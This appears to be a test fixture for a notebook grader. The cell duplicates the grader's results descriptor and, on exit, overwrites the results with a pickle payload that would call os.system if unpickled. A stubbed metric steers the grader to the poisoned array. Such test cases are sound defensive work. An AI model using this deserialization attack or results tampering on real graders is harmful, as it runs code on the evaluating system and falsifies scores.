# Overwrites its results on exit, through a copy of the descriptor the grader gave for them,
# with a pickle that would run code in the grader if it were ever unpickled.
# notebook: 01_linear_regression
# flags: invalid result
# %%
import atexit
import io
import os
import sys

import numpy as np

ARRAYS = os.dup(int(sys.argv[4]))      # the grader's descriptor for the results' arrays


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickle-ran-__TOKEN__",))


def overwrite():
    buffer = io.BytesIO()
    np.savez(buffer, a0=np.array([Payload()], dtype=object))
    os.lseek(ARRAYS, 0, os.SEEK_SET)
    os.write(ARRAYS, buffer.getvalue())


atexit.register(overwrite)


def mae(preds, actuals):
    return np.zeros(3)   # an array, so the results refer to a0
